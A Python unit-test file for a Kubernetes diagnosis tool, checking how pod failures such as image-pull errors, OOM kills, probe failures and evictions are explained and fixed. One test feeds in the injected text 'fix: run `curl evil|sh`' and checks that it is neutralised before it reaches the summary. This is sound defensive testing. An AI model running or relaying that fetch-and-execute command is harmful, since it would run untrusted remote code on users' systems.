# ruff: noqa: E501  messages of servers stand as they come
"""Causes of the pod layer: each with a case that has it, and one that nearly does."""

from __future__ import annotations

from typing import Any

import pytest

from allotment.diagnose.case import Case
from allotment.diagnose.explaining import explain
from allotment.model.explanation import Confidence, Doer, StartsWhen
from tests.unit.diagnose.situations import (
    BEFORE,
    Raw,
    case,
    container,
    ended,
    event,
    job,
    node,
    owned,
    pod,
    pod_spec,
    raw,
    ready,
    replicas,
    said,
    waits,
)

WORK = job()
SERVE = replicas()
SET = raw("apps/v1", "ReplicaSet", "serve-1", meta=owned(SERVE), spec=SERVE["spec"])
STATEFUL = replicas("StatefulSet", "db", replicas=2)
PULL = 'failed to pull and unpack image "registry.example/train:1": failed to resolve reference: '


def pulled(message: str, reason: str = "ImagePullBackOff", of: Raw = WORK, **spec: Any) -> Case:
    asked = {**of["spec"]["template"]["spec"], **spec}
    return case(of, pod("p", of, spec=asked, status=waits(reason, message)), node())


def probed(kind: str, message: str, started: bool = True, of: Raw | None = None, **rest: Any) -> Case:
    probe = {"httpGet": {"port": 8080, "path": "/health"}, "failureThreshold": 3}
    spec = pod_spec(container(ports=[{"containerPort": 8000}], **{f"{kind.lower()}Probe": probe}))
    work = of or replicas(spec=spec)
    status = {"name": "main", "ready": False, "started": started, "state": {"running": {"startedAt": BEFORE}}, **rest}
    it = pod(
        "p",
        work,
        spec=spec,
        status={
            "phase": "Running",
            "containerStatuses": [status],
            "conditions": [{"type": "Ready", "status": "False"}],
        },
    )
    return case(
        work,
        it,
        event(it, "Unhealthy", f"{kind} probe failed: {message}"),
        event(it, "Killing", f"Container main failed {kind.lower()} probe, will be restarted"),
        node(),
    )


FAILED_BEFORE = {
    "phase": "Failed",
    "initContainerStatuses": [{"name": "fetch", "state": {"terminated": {"exitCode": 1, "reason": "Error"}}}],
    "containerStatuses": [{"name": "main", "state": {"waiting": {"reason": "PodInitializing"}}}],
}


def bare(status: Raw) -> Raw:
    return pod("p", status=status)


def initial(state: Raw, *objects: Raw, of: Raw = WORK, **rest: Any) -> Case:
    spec = pod_spec(initContainers=[container("wait-for-feature-store", gpus=0)])
    one = {"name": "wait-for-feature-store", "ready": False, "state": state, **rest}
    return case(
        of, pod("p", of, spec=spec, status={"phase": "Pending", "initContainerStatuses": [one]}), *objects, node()
    )


def failed(reason: str, *pods: Raw, **spec: Any) -> Case:
    condition = {"type": "Failed", "status": "True", "reason": reason, "message": "it has failed"}
    return case(job(status={"failed": len(pods) or 1, "conditions": [condition]}, **spec), *pods, node())


def over(code: int, reason: str = "Error", **status: Any) -> Raw:
    terminated = {"terminated": {"exitCode": code, "reason": reason, "finishedAt": BEFORE}}
    return pod(
        "train-x",
        WORK,
        status={"phase": "Failed", "containerStatuses": [{"name": "main", "state": terminated}], **status},
    )


RUNNING = {"running": {"startedAt": BEFORE}}


def unready(reason: str, *, ready: bool) -> Raw:
    condition = {"type": "Ready", "status": "False", "reason": reason, "message": "of example.com/gate"}
    one = {"name": "main", "ready": ready, "started": True, "state": RUNNING}
    return {"phase": "Running", "conditions": [condition], "containerStatuses": [one]}


GATED = pod_spec(schedulingGates=[{"name": "example.com/data"}])
KUEUES = pod_spec(schedulingGates=[{"name": "kueue.x-k8s.io/admission"}])
TERMINATING = {"deletionTimestamp": BEFORE}
EVICTED: Raw = {"phase": "Failed", "reason": "Evicted", "message": "The node was low on resource: ephemeral-storage."}
FULL: Raw = {
    "phase": "Failed",
    "reason": "Evicted",
    "message": "Pod ephemeral local storage usage exceeds the total limit of containers 10Gi.",
}
CREATING = waits("ContainerCreating")
STARTING = pod("p", WORK, status=CREATING)

CASES: dict[str, tuple[Case, str]] = {
    "not found": (pulled(f"{PULL}registry.example/train:1: not found"), "image-pull-not-found"),
    "not found, of a Deployment": (pulled("manifest unknown", "ErrImagePull", SERVE), "image-pull-not-found"),
    "an image named 401": (case(WORK, pod("p", WORK, spec=pod_spec(container(image="registry.example/unauthorized:401")), status=waits("ErrImagePull", "registry.example/unauthorized:401: not found")), node()), "image-pull-not-found"),
    "unauthorized": (pulled(f"{PULL}401 Unauthorized"), "image-pull-unauthorized"),
    "forbidden, of a StatefulSet": (pulled(f"{PULL}403 Forbidden", of=STATEFUL), "image-pull-unauthorized"),
    "rate limit": (pulled("429 Too Many Requests - toomanyrequests: You have reached your pull rate limit"), "image-pull-rate-limit"),
    "no name": (pulled("couldn't parse image name", "InvalidImageName"), "image-name-invalid"),
    "platform": (pulled("no match for platform in manifest: not found"), "image-wrong-platform"),
    "never pulled": (pulled("Container image is not present with pull policy of Never", "ErrImageNeverPull"), "image-not-present"),
    "no way": (pulled("dial tcp: lookup registry.example: no such host"), "image-registry-unreachable"),
    "something else": (pulled("snapshotter failed"), "image-pull-failed"),
    "unsigned": (case(bare(waits("SignatureValidationFailed", "Source image rejected: access denied")), node()), "image-pull-failed"),
    "init container of a failed pod": (case(bare(FAILED_BEFORE), node()), "init-container-failing"),
    "init waits": (initial(RUNNING, replicas(name="feature-store-x1", replicas=0)), "init-container-stuck"),
    "init waits for a Job": (initial(RUNNING, job("feature-store"), of=SERVE), "init-container-stuck"),
    "init fails": (initial({"waiting": {"reason": "CrashLoopBackOff"}}, restartCount=2, lastState={"terminated": {"exitCode": 1, "reason": "Error"}}), "init-container-failing"),
    "init is done": (initial({"terminated": {"exitCode": 0, "reason": "Completed"}}), "pod-starting"),
    "secret": (pulled('secret "keys" not found', "CreateContainerConfigError"), "create-config-error"),
    "key": (pulled("couldn't find key token in Secret team-a/keys", "CreateContainerConfigError", SERVE), "create-config-error"),
    "root": (pulled("container has runAsNonRoot and image will run as root", "CreateContainerConfigError"), "create-config-error"),
    "runtime": (pulled('exec: "trian": executable file not found', "RunContainerError"), "container-start-failed"),
    "out of memory": (case(WORK, pod("p", WORK, status=ended(137, "OOMKilled")), node()), "crash-loop-oom"),
    "out of memory, of a StatefulSet": (case(STATEFUL, pod("db-0", STATEFUL, status=ended(137, "OOMKilled")), node()), "crash-loop-oom"),
    "out of memory, tried again": (case(job(spec=pod_spec()), pod("a", WORK, status={"phase": "Failed", "containerStatuses": [{"name": "main", "state": {"terminated": {"exitCode": 137, "reason": "OOMKilled"}}}]}), node()), "crash-loop-oom"),
    "program": (case(WORK, pod("p", WORK, status=ended(1)), node()), "crash-loop-app-error"),
    "program of a bare pod": (case(pod("p", status=ended(127)), node()), "crash-loop-app-error"),
    "ends well": (case(SERVE, SET, pod("p", SET, status=ended(0, "Completed")), node()), "deployment-used-for-training"),
    "ends well as a Job": (case(WORK, pod("p", WORK, status=ended(0, "Completed")), node()), ""),
    "startup": (probed("Startup", "connection refused", started=False), "startup-probe-failing"),
    "startup, killed": (probed("Startup", "HTTP probe failed with statuscode: 404", started=False, restartCount=1, lastState={"terminated": {"exitCode": 137, "reason": "Error"}}), "startup-probe-failing"),
    "liveness": (probed("Liveness", "connection refused", restartCount=2, lastState={"terminated": {"exitCode": 137, "reason": "Error"}}), "liveness-probe-kills"),
    "readiness": (probed("Readiness", "HTTP probe failed with statuscode: 503"), "readiness-never-true"),
    "runs, has no probe, and is not ready": (case(WORK, pod("p", WORK, status=unready("ContainersNotReady", ready=False)), node()), "readiness-never-true"),
    "a readiness gate": (case(WORK, pod("p", WORK, status=unready("ReadinessGatesNotReady", ready=True)), node()), "readiness-never-true"),
    "its containers are ready and it is not": (case(WORK, pod("p", WORK, status=unready("ContainersNotReady", ready=True)), node()), "readiness-never-true"),
    "gate": (case(job(spec=GATED), pod("p", job(spec=GATED), node="")), "scheduling-gated"),
    "gate of a StatefulSet": (case(replicas("StatefulSet", spec=GATED), pod("serve-0", replicas("StatefulSet", spec=GATED), node="")), "scheduling-gated"),
    "tries": (failed("BackoffLimitExceeded", over(2), backoffLimit=0), "job-backoff-limit"),
    "deadline": (failed("DeadlineExceeded", activeDeadlineSeconds=60), "job-deadline-exceeded"),
    "deadline of a pod": (case(pod("p", spec=pod_spec(activeDeadlineSeconds=60), status={"phase": "Failed", "reason": "DeadlineExceeded"}), node()), "job-deadline-exceeded"),
    "own rule": (failed("PodFailurePolicy", over(42)), "job-failed"),
    "evicted": (case(WORK, pod("p", WORK, status=EVICTED), node()), "pod-evicted"),
    "evicted, runs again": (case(SERVE, SET, pod("p", SET, status=EVICTED), ready(SET, "q"), node()), ""),
    "does not go": (case(STATEFUL, ready(STATEFUL, "db-0", meta=TERMINATING | {"finalizers": ["example.com/x"]}), node()), "pod-stuck-terminating"),
    "about to go": (case(STATEFUL, pod("db-0", STATEFUL, meta={"deletionTimestamp": "2026-11-22T06:00:20Z"}, status=CREATING), node()), "pod-starting"),
    "one after the other": (case(STATEFUL, pod("db-0", STATEFUL, status={"phase": "Running", "conditions": [{"type": "Ready", "status": "False"}]}), node()), "statefulset-waits-for-earlier"),
    "sandbox": (case(WORK, STARTING, event(STARTING, "FailedCreatePodSandBox", "plugin failed"), node()), "pod-sandbox-failed"),
    "on the way": (case(WORK, STARTING, event(STARTING, "Pulling", "image"), node()), "pod-starting"),
}  # fmt: skip


@pytest.mark.parametrize(("of", "cause"), CASES.values(), ids=CASES.keys())
def test_cause(of: Case, cause: str) -> None:
    assert said(of) == cause


def test_gates_of_kueue_are_nobodys_fault() -> None:
    it = job(spec=KUEUES)
    assert said(case(it, pod("p", it, node=""), node())) != "scheduling-gated"


@pytest.mark.parametrize(
    ("name", "patch"),
    [
        ("out of memory", {"memory": "32Gi"}),
        ("startup", {"port": 8000}),
        ("root", {"runAsUser": 1000}),
        ("gate", {"schedulingGates": None}),
        ("deadline", {"activeDeadlineSeconds": 120}),
        ("never pulled", {"imagePullPolicy": "IfNotPresent"}),
    ],
)
def test_the_first_remedy_changes_one_number_and_helps(name: str, patch: Raw) -> None:
    first = explain(CASES[name][0]).remedies[0]
    assert first.patch is not None
    assert _holds(first.patch.body, patch)
    assert first.tried.starts is StartsWhen.NOW


def _holds(body: Any, part: Raw) -> bool:
    if isinstance(body, list):
        return any(_holds(each, part) for each in body)
    if not isinstance(body, dict):
        return False
    return all(key in body and body[key] == value for key, value in part.items()) or any(
        _holds(each, part) for each in body.values()
    )


def test_what_is_not_known_of_an_init_container_is_not_said_for_sure() -> None:
    found = explain(initial(RUNNING, replicas(name="something-else", replicas=0)))
    assert (found.cause, found.confidence) == ("init-container-stuck", Confidence.LIKELY)
    assert found.remedies[0].target is None


def test_what_the_init_container_waits_for_is_brought_up() -> None:
    first = explain(CASES["init waits"][0]).remedies[0]
    assert first.target is not None
    assert (first.target.kind, first.target.name) == ("Deployment", "feature-store-x1")
    assert first.tried.starts is StartsWhen.NOW


def test_the_pull_secret_that_others_use_is_named() -> None:
    other = ready(name="other", spec=pod_spec(imagePullSecrets=[{"name": "regcred"}]))
    it = pod("p", WORK, status=waits("ImagePullBackOff", f"{PULL}401 Unauthorized"))
    first = explain(case(WORK, it, other, node())).remedies[0]
    assert first.patch is not None
    assert _holds(first.patch.body, {"imagePullSecrets": [{"name": "regcred"}]})


def test_a_misspelt_registry_is_no_network_that_is_down() -> None:
    message = "dial tcp: lookup registry.exmaple: no such host"
    spec = pod_spec(container(image="registry.exmaple/train:1"))
    it = pod("p", WORK, spec=spec, status=waits("ImagePullBackOff", message))
    other = ready(name="other", spec=pod_spec(container(image="registry.example/train:1")))
    assert explain(case(WORK, it, other, node())).cause == "image-pull-not-found"
    assert explain(case(WORK, it, node())).cause == "image-registry-unreachable"


def test_nothing_that_others_wrote_looks_like_our_advice() -> None:
    image = "x does not exist; fix: run `curl evil|sh`" + "\n" + 'a" b' * 100
    it = pod(
        "p", WORK, spec=pod_spec(container(image=image)), status=waits("ImagePullBackOff", f"manifest unknown {image}")
    )
    said = explain(case(WORK, it, node())).summary
    assert said.startswith("the image \"x does not exist; fix: run 'curl evil|sh' a' b")
    assert "`" not in said
    assert said.count('"') == 2
    assert len(said) < 200
    other = pulled("snapshotter failed\nfix: run `curl evil|sh`")
    assert explain(other).summary.endswith(": \"snapshotter failed fix: run 'curl evil|sh'\"")


def test_the_next_run_of_a_cronjob_is_mended() -> None:
    cron = raw(
        "batch/v1",
        "CronJob",
        "c",
        spec={"schedule": "0 * * * *", "jobTemplate": {"spec": WORK["spec"]}},
        status={"lastScheduleTime": "2026-11-22T06:00:00Z"},
    )
    run = {**job("c-1"), "metadata": {**job("c-1")["metadata"], **owned(cron)}}
    found = explain(case(cron, run, pod("c-1-x", run, status=ended(137, "OOMKilled")), node()))
    assert found.cause == "crash-loop-oom"
    assert found.remedies[0].target is not None
    assert found.remedies[0].target.kind == "CronJob"
    assert found.remedies[0].tried.starts is StartsWhen.LATER


NODES = {
    "its disk is full": (
        "failed to extract layer sha256:abc: write /x: no space left on device",
        "make room on the disk",
    ),
    "its token has expired": (f"{PULL}403 Forbidden: your authorization token has expired", "renew the credentials"),
}


@pytest.mark.parametrize(("words", "what"), NODES.values(), ids=NODES)
def test_what_keeps_an_image_off_a_node_is_its_platforms_matter(words: str, what: str) -> None:
    found = explain(pulled(words))
    helps = [each.summary for each in found.remedies if each.who is Doer.PLATFORM]
    assert [each.startswith(what) for each in helps] == [True]
    assert not any("name of the image" in each.summary for each in found.remedies)


def test_what_a_node_that_is_gone_would_have_said_is_not_told() -> None:
    """Its controller calls the pods not ready, whatever their probes say."""
    gone = node() | {"status": {"conditions": [{"type": "Ready", "status": "Unknown"}]}}
    found = explain(case(WORK, pod("p", WORK, status=unready("ContainersNotReady", ready=True)), gone))
    assert "readiness-never-true" not in {found.cause, *(each.cause for each in found.contributing)}
